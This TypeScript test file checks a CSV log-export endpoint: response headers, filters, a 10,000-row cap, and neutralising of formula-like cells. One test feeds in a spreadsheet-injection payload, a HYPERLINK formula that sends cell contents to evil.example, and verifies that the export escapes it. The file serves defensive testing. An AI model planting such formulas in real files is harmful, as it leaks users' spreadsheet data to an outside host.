import { beforeAll, describe, expect, it } from 'vitest'
import { agents } from '#contract/agents/agents.ts'
import { copyRow } from '#tests/copy-row.ts'
import { engines } from '#tests/engines.ts'
import { useTestApp } from '#tests/use-test-app.ts'

function readCsv(text: string): string[][] {
  const rows: string[][] = []
  const pattern = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy
  let row: string[] = []
  for (let match = pattern.exec(text); match; match = pattern.exec(text)) {
    const [, cell = '', end] = match
    row.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)
    if (end === ',') continue
    rows.push(row)
    row = []
    if (pattern.lastIndex === text.length) return rows
  }
  throw new Error('this is not a CSV file')
}

describe.each(engines)('exporting logs on %s', (engine) => {
  const { app, ada } = useTestApp(engine, ['ada'], { modelRuntime: { sleep: async () => {} } })
  beforeAll(async () => {
    await ada.call(agents.create, { body: { name: 'Lamp, "Lighter"', slug: 'lamp', purpose: 'p' } })
  })

  const download = async (query = '') => {
    const response = await ada.fetch(`/api/kip/logs/export${query}`)
    const text = await response.text()
    const [names = [], ...rows] = readCsv(text)
    const records = rows.map((row) => Object.fromEntries(row.map((value, index) => [names[index], value])))
    return { response, text, records }
  }
  const runAgent = (input: string) => ada.call(agents.run, { body: { agentId: 'lamp', input } })

  it('exports only column names before the first run', async () => {
    const { response, records, text } = await download()
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="keeper-logs-[\d-]+\.csv"$/)
    expect(response.headers.get('cache-control')).toBe('no-store')
    expect(records).toEqual([])
    expect(text).toMatch(/^run_id,created_at,agent,.*,input,output,error\r\n$/)
  })

  it('exports the list without text that spreadsheets would execute', async () => {
    const hostile = '=HYPERLINK("https://evil.example/?q="&A1,"see")'
    for (const input of [hostile, 'two\nlines, and "quotes"', '-2+3']) {
      app.passTime(1000)
      await runAgent(input)
    }
    const { records, text } = await download()
    expect(records.map((record) => record.input)).toEqual(["'-2+3", 'two\nlines, and "quotes"', `'${hostile}`])
    const { logs } = (await ada.call(agents.logs)).data
    expect(records.map((record) => record.run_id)).toEqual(logs.map((log) => log.id))
    expect(records[0]).toMatchObject({
      agent: 'Lamp, "Lighter"',
      agent_version: '1',
      status: 'success',
      mock_mode: 'true',
      user: expect.stringContaining('Ada'),
      output: JSON.parse(logs[0]?.output ?? '').text,
      error: '',
    })
    expect(text.replaceAll('\r\n', '')).not.toMatch(/(?:^|,)"?[=+@-]/)
  })

  it('applies the filters of the list', async () => {
    expect((await download('?q=quotes')).records).toHaveLength(1)
    expect((await download('?status=error')).records).toEqual([])
  })

  it('stops after 10,000 rows and reports it', async () => {
    const { db } = app.services
    const row = await db.selectFrom('runs').selectAll().where('input', '=', '-2+3').executeTakeFirstOrThrow()
    await copyRow(db, 'runs', row, {
      count: 10_050,
      values: (index) => ({
        id: `older-${String(index).padStart(6, '0')}`,
        input: `older ${index}`,
        created_at: row.created_at - (index + 10) * 1000,
      }),
    })
    const { response, records } = await download()
    expect(records).toHaveLength(10_000)
    expect(records[0]?.input).toBe("'-2+3")
    expect(records.at(-1)?.input).toBe('older 9996')
    expect(response.headers.get('keeper-total')).toBe('10053')
    expect(response.headers.get('keeper-rows')).toBe('10000')
    expect(response.headers.get('content-disposition')).toContain('newest-10000')
  }, 60_000)
})
